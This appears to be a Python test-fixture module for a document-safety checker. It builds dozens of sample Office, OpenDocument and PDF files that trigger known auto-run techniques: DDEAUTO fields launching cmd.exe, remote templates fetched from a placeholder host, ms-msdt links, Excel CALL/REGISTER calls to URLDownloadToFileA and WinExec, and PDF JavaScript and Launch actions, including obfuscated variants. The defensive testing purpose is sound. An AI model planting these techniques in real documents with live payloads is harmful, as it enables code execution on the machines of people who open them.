"""Sixty documents that would act by themselves when somebody opens them, by known techniques (C11, C15)."""

from __future__ import annotations

from typing import Any

from goldenthread.documents.checks.tests import made
from goldenthread.documents.checks.tests.made import HEAD, book, docx, odt, pdf, relations, stream

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64
VBA = "application/vnd.ms-office.vbaProject"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def field(*codes: str) -> str:
    """A field of Word, its instruction cut over runs as an attacker cuts it."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    ends = ['<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format(each) for each in ("begin", "end")]  # noqa: UP032
    return f"<w:p>{ends[0]}{runs}{ends[1]}</w:p>"


def formula(text: str) -> bytes:
    return book(f'<row r="1"><c r="A1"><f>{text}</f><v>0</v></c></row>')


def word_link(kind: str, target: str) -> bytes:
    return docx(parts={"word/_rels/document.xml.rels": relations((kind, target, "External"))})


def every() -> dict[str, bytes]:
    """Each by the name under which it comes."""
    return {**_word(), **_excel(), **_open(), **_pdf()}


def _bodies() -> dict[str, Any]:
    return {
        "dde.docx": field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        "dde-cut.docx": field("DD", "EAU", "TO cmd"),
        "dde-small.docx": field("  dde cmd"),
        "dde-simple.docx": '<w:fldSimple w:instr=" DDEAUTO cmd "/>',
        "dde-deleted.docx": "<w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r>",
        "macrobutton.docx": field("MACROBUTTON AutoOpen Click"),
        "includetext.docx": field('INCLUDETEXT "http://x.example/a.docx"'),
        "includepicture.docx": field('INCLUDEPICTURE "http://x.example/a.png" \\d'),
        "link.docx": field("LINK Excel.Sheet.12 \\\\\\\\x.example\\\\a.xlsx"),
        "import.docx": field('IMPORT "http://x.example/a.png"'),
        "altchunk.docx": '<w:altChunk r:id="r0"/>',
        "control.docx": '<w:control r:id="r0"/>',
        "oleobject.docx": '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:object>',
        "subdocument.docx": '<w:subDoc r:id="r0"/>',
    }


def _links() -> dict[str, Any]:
    return {
        "template.docx": ("attachedTemplate", "https://x.example/t.dotm"),
        "template-unc.docx": ("attachedTemplate", "file://x.example/share/t.dotm"),
        "template-share.docx": ("attachedTemplate", "\\\\x.example\\share\\t.dotm"),
        "template-mhtml.docx": ("attachedTemplate", "mhtml:https://x.example/t.mht!x"),
        "remote-object.docx": ("oleObject", "https://x.example/o.html!"),
        "remote-picture.docx": ("image", "https://x.example/seen.png"),
        "picture-share.docx": ("image", "file:////x.example/a/seen.png"),
        "frame.docx": ("frame", "https://x.example/frame.html"),
        "sub.docx": ("subDocument", "https://x.example/sub.docx"),
        "script-link.docx": ("hyperlink", "javascript:alert(1)"),
        "search-link.docx": ("hyperlink", "search-ms:query=a&amp;crumb=location:x.example"),
        "file-link.docx": ("hyperlink", "file://x.example/a.exe"),
        "diagnostic.docx": ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    }


def _parts() -> dict[str, Any]:
    return {
        "vba.docx": {"word/vbaProject.bin": OLE},
        "vba-renamed.docx": {"word/media/image1.png": OLE},
        "activex.docx": {"word/activeX/activeX1.xml": "<a/>"},
        "customui.docx": {"customUI/customUI.xml": '<customUI onLoad="run"/>'},
        "package.docx": {"word/embeddings/oleObject1.bin": OLE},
        "program.docx": {"word/embeddings/run.bin": b"MZ" + b"\0" * 64},
        "webpage.docx": {"word/afchunk.mht": b"<html><script>1</script></html>"},
        "rtf.docx": {"word/afchunk.rtf": b"{\\rtf1 x}"},
        "inner.docx": {"word/embeddings/inner.docx": docx(field("DDEAUTO cmd"))},
        "inner-book.docx": {"word/embeddings/inner.xlsx": formula("cmd|'/c calc'!A0")},
    }


def _word() -> dict[str, bytes]:
    return {
        **{name: docx(body) for name, body in _bodies().items()},
        **{name: word_link(*link) for name, link in _links().items()},
        **{name: docx(parts=each) for name, each in _parts().items()},
        "macro-type.docx": docx("", None, MACRO_WORD),
        "vba-type.docx": docx("", None, VBA),
    }


def _excel() -> dict[str, bytes]:
    link = f'{HEAD}<externalLink xmlns="{made.SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return {
        "dde.xlsx": formula("cmd|'/c calc.exe'!A0"),
        "dde-sum.xlsx": formula("SUM(1,MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A1)"),
        "webservice.xlsx": formula('WEBSERVICE("https://x.example/"&amp;A1)'),
        "call.xlsx": formula('CALL ("urlmon","URLDownloadToFileA")'),
        "register.xlsx": formula('REGISTER.ID("kernel32","WinExec")'),
        "rtd.xlsx": formula('RTD("x.server",,"a")'),
        "dde-link.xlsx": book(parts={"xl/externalLinks/externalLink1.xml": link}),
        "remote-book.xlsx": book(
            parts={
                "xl/externalLinks/_rels/e.xml.rels": relations(
                    ("externalLinkPath", "https://x.example/a.xlsx", "External")
                )
            }
        ),
        "vba.xlsx": book(parts={"xl/vbaProject.bin": OLE}),
        "macro-type.xlsx": book("", None, MACRO_BOOK),
        "old-macro.xlsx": book(parts={"xl/macrosheets/sheet1.xml": "<a/>"}),
        "auto-open.xlsx": book(
            parts={
                "xl/names.xml": f'<a xmlns="{made.SHEET}"><definedName name="_xlnm.Auto_Open">x</definedName></a>'
            }
        ),
        "connection.xlsx": book(parts={"xl/connections.xml": "<connections/>"}),
        "object.xlsx": book(parts={"xl/embeddings/oleObject1.bin": OLE}),
        "control.xlsx": book('<row r="1"/><control/>'),
    }


def _open() -> dict[str, bytes]:
    picture = '<draw:image xlink:href="{}"/>'
    return {
        "basic.odt": odt(parts={"Basic/Standard/Module1.xml": "<a/>"}),
        "python.odt": odt(parts={"Scripts/python/run.py": "import os"}),
        "listener.odt": odt('<script:event-listener script:event-name="on-load"/>'),
        "dde.odt": odt('<text:dde-connection-decl office:dde-application="soffice"/>'),
        "remote.odt": odt(picture.format("https://x.example/seen.png")),
        "share.odt": odt(picture.format("//x.example/seen.png")),
        "section.odt": odt('<text:section-source xlink:href="https://x.example/a.odt"/>'),
        "script-link.odt": odt('<text:a xlink:href="javascript:alert(1)">x</text:a>'),
        "object.odt": odt('<draw:object-ole xlink:href="./Object 1"/>'),
        "frame.odt": odt('<draw:floating-frame xlink:href="a.html"/>'),
    }


def _pdf() -> dict[str, bytes]:
    return {
        "script.pdf": pdf(b"5 0 obj\n%s\nendobj\n" % JS),
        "script-escaped.pdf": pdf(b"5 0 obj\n<< /S /J#61vaScr#69pt /JS (1) >>\nendobj\n"),
        "script-packed.pdf": pdf(stream(b"/Type /ObjStm /N 1 /First 4", b"5 0 " + JS)),
        "script-packed-twice.pdf": pdf(
            b"7 0 obj\n<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00>\nendstream\nendobj\n"
        ),
        "script-hidden.pdf": pdf(
            b"7 0 obj\n<< /Type /Obj#53tm >>\nstream\r5 0 " + JS + b"\nendstream\nendobj\n"
        ),
        "launch.pdf": pdf(b"5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
        "files.pdf": pdf(b"5 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"),
        "film.pdf": pdf(b"5 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"),
        "xfa.pdf": pdf(b"5 0 obj\n<< /XFA [ 6 0 R ] >>\nendobj\n"),
        "submit.pdf": pdf(b"5 0 obj\n<< /S /SubmitForm /F (https://x.example) >>\nendobj\n"),
        "import.pdf": pdf(b"5 0 obj\n<< /S /ImportData >>\nendobj\n"),
        "encrypted.pdf": pdf(b"5 0 obj\n<< /Encrypt 6 0 R >>\nendobj\n"),
        "pages.pdf": pdf(pages=2_001),
    }
